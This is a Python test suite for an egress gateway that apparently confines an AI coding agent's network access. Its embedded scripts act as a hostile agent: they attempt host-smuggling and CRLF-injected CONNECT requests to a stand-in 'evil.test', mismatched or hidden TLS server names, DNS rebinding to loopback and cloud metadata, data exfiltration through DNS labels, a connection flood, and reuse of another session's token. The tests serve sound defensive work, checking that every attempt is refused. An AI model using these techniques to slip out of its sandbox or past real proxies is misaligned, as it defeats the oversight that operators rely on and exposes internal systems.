"""B6 to B12: the gateway as a proxy, attacked from inside real sessions.

The names are those of a name server of the test's own: what is asked there is what the gateway resolved. The
targets are listeners at an address of the machine; each is reached once, by what is allowed, in the same
session that must not reach it otherwise.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import json
import os
import re
import secrets
import signal
import socket
import socketserver
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clsecure.session.store import session_key
from tests.support import hello
from tests.support.hostile import Attack, LiveAgent, Target, canary
from tests.support.leftovers import descendants, started, wait_until
from tests.support.messages_api import MessagesApi, text
from tests.support.names import NameServer, own_address, own_resolver, question

pytestmark = pytest.mark.root

METADATA = "169.254.169.254"
PUBLIC = f"44.128.{secrets.randbelow(256)}.{1 + secrets.randbelow(254)}"
"""An address of the internet that becomes the machine's own for these tests."""
GREETING = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"

# Says what it is told, byte for byte, to the proxy that the environment names.
ASK = r"""
import base64, json, os, socket, sys, urllib.parse

plan = json.load(sys.stdin)
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
token = base64.b64encode(f"{proxy.username}:{proxy.password}".encode())
auth = b"Proxy-Authorization: Basic " + token

def ask(first, then=None):
    said = b""
    with socket.create_connection((proxy.hostname, proxy.port), timeout=20) as client:
        try:
            client.sendall(base64.b64decode(first).replace(b"@AUTH@", auth))
            while b"\r\n\r\n" not in said and (data := client.recv(65536)):
                said += data
            if then is not None and said.split(b" ")[1] == b"200":
                said = b""
                client.sendall(base64.b64decode(then))
            client.shutdown(socket.SHUT_WR)
            while data := client.recv(65536):
                said += data
        except TimeoutError:
            said += b" timed out"
        except OSError as error:
            said += type(error).__name__.encode()
    return said[:2000].decode("latin-1")

said = {name: ask(*case) for name, case in plan["ask"].items()}
for host, port, data in plan["straight"]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, kind) as probe:
            probe.settimeout(3)
            try:
                probe.connect((host, port))
                probe.sendall(base64.b64decode(data))
                said[f"straight {host} {kind.name}"] = "sent"
            except OSError as error:
                said[f"straight {host} {kind.name}"] = type(error).__name__
for name in plan["names"]:
    try:
        said[f"name {name}"] = repr(socket.getaddrinfo(name, 443))
    except OSError:
        said[f"name {name}"] = "unknown"
print(json.dumps(said))
"""


class Web:
    """A server that remembers every byte, and greets whoever says something."""

    def __init__(self, host: str, port: int = 0) -> None:
        self.heard: list[bytes] = []
        self.connections = 0
        web = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                web.connections += 1
                with contextlib.suppress(OSError):
                    self.request.settimeout(20)
                    if data := self.request.recv(65536):
                        web.heard.append(data)
                        self.request.sendall(GREETING)

        class Server(socketserver.ThreadingTCPServer):
            allow_reuse_address = True
            daemon_threads = True
            block_on_close = False
            address_family = socket.AF_INET6 if ":" in host else socket.AF_INET

        self._server = Server((host, port), Handler)
        self.port = int(self._server.server_address[1])

    def __enter__(self) -> Web:
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class Place:
    """A machine with names and listeners of the test's own, and who attacks them from a session."""

    target: Target
    names: NameServer
    web: Web
    """At port 443 of the address that ``web.inside.test`` has."""

    shut: Web
    """At port 443 of an address that is denied."""

    local: Web
    """On the host's loopback."""

    public: Web
    """At the same port of a public address that the host has itself."""

    env: dict[str, str]
    api: MessagesApi

    def state(self) -> Path:
        """Return the directory in which clsecure keeps what it knows of the target's session."""
        sessions = self.target.person.home / ".local/state/clsecure/sessions"
        return sessions / session_key(str(self.target.repository), self.target.session)

    def events(self) -> list[dict[str, Any]]:
        """Return the requests of the target's last session, as they stand in its log."""
        lines = [json.loads(line) for line in (self.state() / "egress.jsonl").read_text().splitlines()]
        begun = max(at for at, line in enumerate(lines) if line["event"] == "session")
        return [line for line in lines[begun:] if line["event"] == "request"]


@pytest.fixture(scope="module")
def place(target: Target, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """Names, listeners, a provider."""
    address = f"10.214.{secrets.randbelow(256)}.{1 + secrets.randbelow(254)}"
    denied = f"10.215.{secrets.randbelow(256)}.{1 + secrets.randbelow(254)}"
    directory = tmp_path_factory.mktemp("names")
    directory.chmod(0o755)
    with contextlib.ExitStack() as stack:
        stack.enter_context(own_address(address, denied, METADATA, PUBLIC))
        names = stack.enter_context(NameServer(address))
        web = stack.enter_context(Web(address, 443))
        shut = stack.enter_context(Web(denied, 443))
        local = stack.enter_context(Web("127.0.0.1"))
        public = stack.enter_context(Web(PUBLIC, local.port))
        for host, listener in ((address, web), (denied, shut), ("127.0.0.1", local), (PUBLIC, public)):
            with socket.create_connection((host, listener.port), timeout=20) as client:
                client.sendall(b"control")
                assert client.recv(65536) == GREETING
            del listener.heard[:]
            listener.connections = 0
        api = stack.enter_context(MessagesApi([[text("hello")]]))
        person = own_resolver(target.person, names, directory)
        names.table["control.test"] = [address]
        asked = person.run(["getent", "hosts", "control.test"]).check()
        assert asked.text.split()[0] == address
        assert names.asked_about("control"), "the name server does not hear this machine"
        names.table["web.inside.test"] = [address]
        names.table["shut.inside.test"] = [denied]
        yield Place(
            target=dataclasses.replace(target, person=person, options=("--agent", "claude")),
            names=names,
            web=web,
            shut=shut,
            local=local,
            public=public,
            env={"ANTHROPIC_API_KEY": canary(), "ANTHROPIC_BASE_URL": api.url},
            api=api,
        )


def case(first: str | bytes, then: bytes | None = None) -> list[str | None]:
    """Return what is said to the proxy; ``then`` once it answered 200."""
    data = first.encode("latin-1") if isinstance(first, str) else first
    return [base64.b64encode(data).decode(), None if then is None else base64.b64encode(then).decode()]


def connect(target: str, then: bytes | None = None, *headers: str) -> list[str | None]:
    """Return a CONNECT with the session's token."""
    lines = [f"CONNECT {target} HTTP/1.1", f"Host: {target}", "@AUTH@", *headers]
    return case("\r\n".join(lines) + "\r\n\r\n", then)


def get(url: str, host: str, *headers: str, body: str = "") -> list[str | None]:
    """Return a GET in absolute form with the session's token."""
    return case("\r\n".join([f"GET {url} HTTP/1.1", f"Host: {host}", "@AUTH@", *headers]) + f"\r\n\r\n{body}")


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """What one session with allowed hosts said to its gateway, and what became of it."""

    place: Place
    said: dict[str, str]
    events: list[dict[str, Any]]
    attack: Attack
    label: str

    def status(self, name: str) -> int:
        """Return the status of an answer."""
        found = re.match(r"HTTP/1\.[01] (\d+) ", self.said[name])
        return int(found[1]) if found else 0


def host_names(port: int, label: str) -> dict[str, list[str | None]]:
    """Return B7 and B8: targets that are nearly the allowed ones."""
    fine = hello.client_hello("web.inside.test")
    cases = {
        "nul": connect("web.inside.test\0.evil.test:443", fine),
        "suffix": connect("web.inside.test.evil.test:443", fine),
        "prefix": connect("evilweb.inside.test:443", fine),
        "user": connect("web.inside.test@evil.test:443", fine),
        "user the other way": connect("evil.test@web.inside.test:443", fine),
        "upper case": connect("WEB.inside.test:443", fine),
        "trailing dot": connect("web.inside.test.:443", fine),
        "punycode": connect("xn--wb-xka.inside.test:443", fine),
        "decimal": connect("2130706433:443", fine),
        "hexadecimal": connect("0x7f000001:443", fine),
        "short": connect("127.1:443", fine),
        "mapped": connect("[::ffff:127.0.0.1]:443", fine),
        "zone": connect("[::1%25lo]:443", fine),
        "other port": connect("web.inside.test:444", fine),
        "port of two": connect("web.inside.test:443:80", fine),
        "port with sign": connect("web.inside.test:+443", fine),
        "port too large": connect("web.inside.test:65979", fine),
        "no port": connect("web.inside.test", fine),
        "crlf": connect("web.inside.test:443 HTTP/1.1\r\nX: y\r\n\r\nCONNECT evil.test:443", fine),
        "lengths": get(
            f"http://host.clsecure.internal:{port}/", f"host.clsecure.internal:{port}",
            "Transfer-Encoding: chunked", "Content-Length: 4", body="0\r\n\r\n",
        ),
        "host is not target": get(f"http://host.clsecure.internal:{port}/", "evil.test"),
        "two hosts": get(
            f"http://host.clsecure.internal:{port}/", f"host.clsecure.internal:{port}", "Host: evil.test"
        ),
        "userinfo": get(f"http://host.clsecure.internal:{port}@evil.test/", "evil.test"),
        "ftp": get(f"ftp://host.clsecure.internal:{port}/", f"host.clsecure.internal:{port}"),
        "loopback itself": get(f"http://127.0.0.1:{port + 1}/", f"127.0.0.1:{port + 1}"),
        "label connect": connect(f"{label}.evil.test:443", fine),
        "label get": get(f"http://{label}.evil.test/", f"{label}.evil.test"),
        "label in userinfo": get(f"http://{label}@web.inside.test/", "web.inside.test"),
    }  # fmt: skip
    return {f"host {name}": each for name, each in cases.items()}


def first_words() -> dict[str, list[str | None]]:
    """Return B9: what is said in a tunnel to an allowed host that is meant for another one, or hidden."""
    fine, target = hello.client_hello("web.inside.test"), "web.inside.test:443"
    evil, nameless = hello.client_hello("evil.test"), hello.client_hello(None)
    hidden = hello.with_extension(fine, hello.ENCRYPTED_HELLO, os.urandom(64))
    cases = {
        "other name": evil,
        "no name": nameless,
        "encrypted": hidden,
        "two names": hello.with_extension(
            nameless, hello.SERVER_NAME, hello.server_name("web.inside.test", "evil.test")
        ),
        "two extensions": hello.with_extension(fine, hello.SERVER_NAME, hello.server_name("evil.test")),
        "other name in pieces": hello.in_records(evil, 20),
        "encrypted in pieces": hello.in_records(hidden, 50),
        "name of an address": hello.with_extension(
            nameless, hello.SERVER_NAME, hello.server_name("10.0.0.1")
        ),
        "plain": b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "ssh": b"SSH-2.0-hostile\r\n",
        "half a record": evil[:40],
        "alert first": hello.record(b"\x01\x00", kind=21) + evil,
        "old hello": b"\x80\x2e\x01\x03\x01" + os.urandom(43),
    }  # fmt: skip
    early = connect(target)[0]
    assert early is not None
    return {
        **{f"tls {name}": connect(target, data) for name, data in cases.items()},
        "tls other name at once": case(base64.b64decode(early) + evil),
        "tls plain at once": case(base64.b64decode(early) + cases["plain"]),
    }


REBOUND = {
    "loopback": ["127.0.0.1"],
    "loopback6": ["::1"],
    "mapped": ["::ffff:127.0.0.1"],
    "zero": ["0.0.0.0"],
    "private": ["10.0.0.1"],
    "mixed": ["192.0.43.7", "127.0.0.1"],
    "metadata": [METADATA],
    "site": ["fec0::1"],
    "public": [PUBLIC],
}
"""Names below an allowed domain, and what they lead to."""


@pytest.fixture(scope="module")
def world(place: Place) -> World:
    """Say everything in one session."""
    label = secrets.token_hex(8)
    port = place.local.port
    for name, addresses in REBOUND.items():
        place.names.table[f"{name}.sub.test"] = addresses
    place.names.table["metadata.test"] = [METADATA]
    fine = hello.client_hello("web.inside.test")
    asks = {
        "control": connect("web.inside.test:443", fine),
        "control in pieces": connect("web.inside.test:443", hello.in_records(fine, 100)),
        "control loopback": get(f"http://host.clsecure.internal:{port}/", f"host.clsecure.internal:{port}"),
        **host_names(port, label),
        **first_words(),
        **{f"rebound {name}": connect(f"{name}.sub.test:{port}") for name in REBOUND},
        "rebound exact": connect(f"metadata.test:{port}"),
        "rebound denied": connect("shut.inside.test:443", hello.client_hello("shut.inside.test")),
        "token none": case("CONNECT web.inside.test:443 HTTP/1.1\r\nHost: web.inside.test:443\r\n\r\n", fine),
        "token other": case(
            "CONNECT web.inside.test:443 HTTP/1.1\r\nHost: web.inside.test:443\r\nProxy-Authorization: Basic "
            + base64.b64encode(f"clsecure:{secrets.token_hex(32)}".encode()).decode()
            + "\r\n\r\n",
            fine,
        ),
    }
    straight = question(f"{label}.evil.test")
    plan = {
        "ask": asks,
        "straight": [
            [place.names.address, 53, base64.b64encode(straight).decode()],
            [place.names.address, 443, ""],
        ],
        "names": [f"{label}.evil.test", "web.inside.test", "control.test"],
    }
    allowed = ("web.inside.test", f"127.0.0.1:{port}", f"*.sub.test:{port}", f"metadata.test:{port}")
    attack = place.target.attack(
        ["/usr/bin/python3", "-I", "-c", ASK],
        *(f"--allow-domain={host}" for host in (*allowed, "shut.inside.test")),
        f"--deny-domain={place.names.table['shut.inside.test'][0]}",
        input=json.dumps(plan).encode(),
        env=place.env,
    )
    return World(place=place, said=attack.evidence, events=place.events(), attack=attack, label=label)


def test_b7_targets_that_are_nearly_the_allowed_ones(world):
    """All of them denied, one line of the log each, and neither resolved nor reached."""
    names = [name for name in world.said if name.startswith("host ")]
    statuses = {name: world.status(name) for name in names}
    assert set(statuses.values()) <= {400, 403, 501}, statuses
    assert world.status("control") == world.status("control in pieces") == 200, world.said["control"]
    assert world.status("control loopback") == 200, world.said["control loopback"]
    asked = [name for name in world.said if name.split()[0] not in ("straight", "name")]
    assert len(world.events) == len(asked)
    assert len([event for event in world.events if event["decision"] == "allow"]) == len(
        [name for name in asked if name.startswith("control")]
    )
    assert world.place.names.asked_about("evil") == []
    # The agent is told, so that it can tell the user.
    assert f"{world.label}.evil.test:443 is not allowed" in world.said["host label connect"]
    assert "clsecure network allow" in world.said["host label connect"]


def test_b8_a_name_that_is_denied_is_not_resolved(world):
    """Neither the sandbox nor the gateway asks for a name in which an agent hides its words."""
    assert world.place.names.asked_about("web.inside.test"), "the gateway asks somebody else"
    assert world.place.names.asked_about(world.label) == []
    straight = {name: end for name, end in world.said.items() if name.startswith("straight ")}
    assert straight
    assert "sent" not in straight.values()
    assert {end for name, end in world.said.items() if name.startswith("name ")} == {"unknown"}


def test_b9_a_tunnel_to_an_allowed_host_leads_to_no_other(world):
    """The host that TLS names is the one that was asked for; hidden or missing names are refused."""
    names = [name for name in world.said if name.startswith("tls ")]
    assert {name for name in names if "hello" in world.said[name]} == set()
    # Heard: the two controls, and nothing else.
    assert len(world.place.web.heard) == 2
    assert all(b"web.inside.test" in data for data in world.place.web.heard[:1])


def test_b11_an_allowed_name_that_leads_home(world):
    """Names below an allowed domain that lead to loopback, private ranges, metadata, the host itself."""
    for name in REBOUND:
        assert world.status(f"rebound {name}") in (403, 502), world.said[f"rebound {name}"]
        assert world.place.names.asked_about(f"{name}.sub.test"), "it was not even resolved"
    assert world.status("rebound exact") == world.status("rebound denied") == 403
    assert world.place.names.asked_about("shut.inside.test")
    assert world.place.shut.connections == 0
    assert len(world.place.local.heard) == 1  # the control, which is allowed by its very name
    assert world.place.local.connections == 1
    assert world.place.public.connections == 0


def test_b12_strangers_to_the_gateway(world):
    """Without the session's token, and with that of another one."""
    assert world.status("token none") == world.status("token other") == 407


# Attacks the gateway itself, then works on as an agent would; goes on when it is told to.
STRESS = r"""
import base64, collections, http.client, json, os, resource, socket, sys, urllib.parse
from concurrent.futures import ThreadPoolExecutor

proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
address = (proxy.hostname, proxy.port)
auth = b"Proxy-Authorization: Basic " + base64.b64encode(f"{proxy.username}:{proxy.password}".encode())
key = "Bearer " + os.environ["ANTHROPIC_AUTH_TOKEN"]
target = sys.argv[1].encode()
said, kept = {}, []
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

def dial():
    return socket.create_connection(address, timeout=30)

def answer_to(client, request):
    client.sendall(request)
    said = b""
    while b"\r\n\r\n" not in said and (data := client.recv(65536)):
        said += data
    head, _, rest = said.partition(b"\r\n\r\n")
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            size = int(line.split(b":")[1])
            while len(rest) < size and (data := client.recv(65536)):
                rest += data
    return head[9:12].decode()

def idle(count):
    for number in range(count):
        client = dial()
        try:
            client.sendall(b"GET / HTTP/1.1\r\nX: ")
        except OSError:
            pass
        kept.append(client)
        if len(kept) > min(4000, most - 200):
            kept.pop(0).close()
        if number % 4 == 3:
            # What came before it is accepted then: the kernel makes those wait a second that are too many.
            with dial() as client:
                try:
                    answer_to(client, b"HEAD / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                except OSError:
                    pass
    return count

def asked(count):
    answers, client = collections.Counter(), dial()
    for number in range(count):
        request = b"CONNECT x%d.evil.test:443 HTTP/1.1\r\nHost: x%d.evil.test:443\r\n" % (number, number)
        try:
            answer = answer_to(client, request + auth + b"\r\n\r\n")
            answers[answer] += 1
        except OSError:
            answer = ""
        if not answer:
            client.close()
            client = dial()
    return answers

def message():
    connection = http.client.HTTPConnection(*address, timeout=30)
    body = {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]}
    headers = {"content-type": "application/json", "authorization": key}
    connection.request("POST", "/v1/messages", json.dumps(body), headers)
    return connection.getresponse().status

def body(size):
    client = dial()
    kept.append(client)
    head = f"POST /v1/messages HTTP/1.1\r\nHost: {address[0]}:{address[1]}\r\nAuthorization: {key}\r\n"
    head += f"Content-Type: application/json\r\nContent-Length: {size + 1}\r\n\r\n"
    try:
        client.sendall(head.encode() + b" " * size)
    except OSError:
        pass

def header():
    sent, client = 0, dial()
    try:
        client.sendall(b"GET / HTTP/1.1\r\nX: ")
        while sent < 1 << 30:
            sent += client.send(b"x" * 65536)
    except OSError:
        pass
    return sent

with ThreadPoolExecutor(40) as pool:
    said["control"] = message()
    said["idle"] = sum(pool.map(idle, [125] * 40))
    said["asked"] = sum(pool.map(asked, [50] * 40), collections.Counter())
    said["header"] = max(pool.map(lambda _: header(), range(2)))
    list(pool.map(body, [30 << 20] * 6))
    said["afterwards"] = message()
    for client in kept:
        client.close()

tunnel = dial()
request = b"CONNECT %b HTTP/1.1\r\nHost: %b\r\n%b\r\n\r\n" % (target, target, auth)
said["tunnel"] = answer_to(tunnel, request)
print("attacked", json.dumps(said), flush=True)

# The gateway is killed.
sys.stdin.readline()
try:
    tunnel.settimeout(20)
    tunnel.sendall(b"hello")
    said["tunnel after"] = repr(tunnel.recv(65536))
except OSError as error:
    said["tunnel after"] = type(error).__name__
for name, to in (("gateway", address), ("target", (sys.argv[2], int(target.split(b":")[1])))):
    try:
        socket.create_connection(to, timeout=5)
        said[f"{name} after"] = "connected"
    except OSError as error:
        said[f"{name} after"] = type(error).__name__ + " " + str(error.errno)
print("said", json.dumps(said), "over", flush=True)
sys.stdin.readline()
"""


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class Stressed:
    """A gateway that was flooded and then killed."""

    said: dict[str, Any]
    most_memory: int
    document: Any
    errors: str


def gateway_of(agent: LiveAgent) -> int:
    """Return the pid of a running session's gateway."""
    words = {pid: Path(f"/proc/{pid}/cmdline").read_bytes() for pid in descendants(agent.process.pid)}
    (found,) = [pid for pid, line in words.items() if b"clsecure/egress/" in line]
    return found


@pytest.fixture(scope="module")
def stressed(place: Place) -> Stressed:
    """Flood the gateway, look at it, kill it; the agent goes on."""
    local = f"host.clsecure.internal:{place.local.port}"
    argv = ["/usr/bin/python3", "-I", "-c", STRESS, local, place.names.address]
    allowed = f"--allow-domain=127.0.0.1:{place.local.port}"
    with place.target.live(argv, allowed, env=place.env) as agent:
        agent.wait_for("attacked ", timeout=120)
        gateway = gateway_of(agent)
        status = Path(f"/proc/{gateway}/status").read_text()
        os.kill(gateway, signal.SIGKILL)
        wait_until(lambda: not started(gateway), "the gateway is dead")
        agent.say("go on")
        agent.wait_for(" over")
        outcome = agent.finish()
    (said,) = re.findall(r"^said (.*) over", outcome.errors, re.MULTILINE)
    return Stressed(
        said=json.loads(said),
        most_memory=int(re.findall(r"VmHWM:\s+(\d+) kB", status)[0]) << 10,
        document=outcome.json(),
        errors=outcome.errors,
    )


def test_b12_a_flood_is_bounded_and_the_session_goes_on(stressed):
    """5000 connections, 2000 requests, a head of a gigabyte, bodies that don't end."""
    said = stressed.said
    assert said["control"] == 200
    assert said["idle"] == 5000
    assert set(said["asked"]) <= {"403", "503", ""}
    assert said["asked"]["403"] > 1000
    assert said["header"] < 256 << 20
    assert stressed.most_memory < 256 << 20
    assert said["afterwards"] == 200


def test_b12_a_killed_gateway_closes_the_network(stressed):
    """kill -9: what was open breaks off, nothing new is opened, and the session says so."""
    said = stressed.said
    assert said["tunnel"] == "200"
    assert said["tunnel after"] in ("b''", "ConnectionResetError", "BrokenPipeError")
    assert said["gateway after"] == "ConnectionRefusedError 111"
    assert said["target after"] == "OSError 101"
    assert stressed.document["exit_code"] == 0
    assert any("gateway" in warning for warning in stressed.document["warnings"])
    assert stressed.document["egress"]["complete"] is False
    # What it wrote down until then is not lost.
    assert stressed.document["egress"]["denied"] >= said["asked"]["403"]


def test_b6_no_usable_list_of_hosts_refuses_the_session(person):
    """Empty, missing, malformed, or everything: refused before anything is made."""
    target = Target(
        person=person, mode="namespace", repository=person.repository("b6"), options=("--agent", "claude")
    )
    env = {"ANTHROPIC_API_KEY": canary()}
    before = person.worker_accounts()
    for options in (
        ("--network=allowlist",),
        ("--network=allowlist", "--allow-domain="),
        ("--allow-domain=*",),
        ("--allow-domain=*.com",),
        ("--allow-domain=*.*.example.org",),
        ("--allow-domain=web.*.test",),
        ("--allow-domain=web.inside.test,*",),
        ("--allow-domain=http://web.inside.test",),
        ("--allow-domain=web.inside.test:0",),
        ("--allow-domain=web inside.test",),
        ("--allow-domain=web.inside.test\n*",),
        ("--deny-domain=*.com/", "--allow-domain=web.inside.test"),
        ("--allow-domain=2130706433",),
        ("--allow-preset=everything",),
    ):
        target.refused(*options, env=env)
    for settings in (
        'network = "allowlist"\n',
        '[egress]\nallow = []\nnetwork = "allowlist"\n',
        '[egress]\nallow = "*"\n',
        '[egress]\nallow = ["*"]\n',
        "[egress]\nallow = [1]\n",
        '[egress]\nalow = ["web.inside.test"]\n',
        '[egress\nallow = ["web.inside.test"]\n',
    ):
        file = person.home / ".config/clsecure/config.toml"
        person.run(["mkdir", "-p", str(file.parent)]).check()
        person.write(file, settings.encode())
        try:
            target.refused(env=env)
        finally:
            file.unlink()
    assert person.worker_accounts() == before


OTHER = r"""
import base64, json, os, socket, sys, urllib.parse

proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
print("port", proxy.port, proxy.password, "over", flush=True)
port, token = sys.stdin.readline().split()

def asked(port, token):
    auth = base64.b64encode(f"clsecure:{token}".encode()).decode()
    target = sys.argv[1]
    try:
        with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as client:
            request = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
            client.sendall(f"{request}Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
            return client.recv(65536)[9:12].decode()
    except OSError as error:
        return type(error).__name__
print("said", json.dumps({
    "own": asked(proxy.port, proxy.password),
    "foreign token": asked(proxy.port, token),
    "foreign gateway": asked(port, token) if int(port) != proxy.port else "the same number",
}), "over", flush=True)
sys.stdin.readline()
"""


KNOCK = """
import os, socket, sys
# The whole path may be longer than an address can be.
os.chdir(sys.argv[1])
with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as probe:
    probe.settimeout(20)
    probe.connect("egress.sock")
    probe.send(b'{"type": "policy"}')
    print(probe.recv(1 << 20).decode())
"""


def as_nobody(*argv: str) -> subprocess.CompletedProcess[str]:
    """Run a program as an account that has nothing to do with the session."""
    return subprocess.run(
        argv, user=65534, group=65534, extra_groups=[], capture_output=True, text=True, timeout=60
    )


def test_b12_another_session_and_another_account(place):
    """A session reaches its own gateway only, with its own token; other accounts reach none."""
    host = f"host.clsecure.internal:{place.local.port}"
    argv = ["/usr/bin/python3", "-I", "-c", OTHER, host]
    allowed = f"--allow-domain=127.0.0.1:{place.local.port}"
    second = dataclasses.replace(place.target, session="second")
    with (
        place.target.live(argv, allowed, env=place.env) as one,
        second.live(argv, allowed, env=place.env) as two,
    ):
        keys = []
        for agent in (one, two):
            agent.wait_for(" over")
            keys.append(agent.said.split(b"port ")[1].split()[:2])
        for port, _ in keys:
            with pytest.raises(ConnectionRefusedError):
                socket.create_connection(("127.0.0.1", int(port)), timeout=5)
        # The ways into the session's network, and to the gateway's orders, are closed as well.
        knock = ["/usr/bin/python3", "-I", "-c", KNOCK, str(place.state())]
        for pid in (pids := one.processes()):
            assert as_nobody("/usr/bin/nsenter", f"--net=/proc/{pid}/ns/net", "true").returncode != 0
        assert pids
        assert "PermissionError" in as_nobody(*knock).stderr
        assert '"policy": "allowlist"' in place.target.person.run(knock).check().text
        for agent, (port, token) in ((one, keys[1]), (two, keys[0])):
            agent.say(f"{port.decode()} {token.decode()}")
            agent.wait_for("} over")
            (said,) = re.findall(r"^said (.*) over", agent.said.decode(), re.MULTILINE)
            assert json.loads(said) == {
                "own": "200",
                "foreign token": "407",
                "foreign gateway": "the same number"
                if keys[0][0] == keys[1][0]
                else "ConnectionRefusedError",
            }
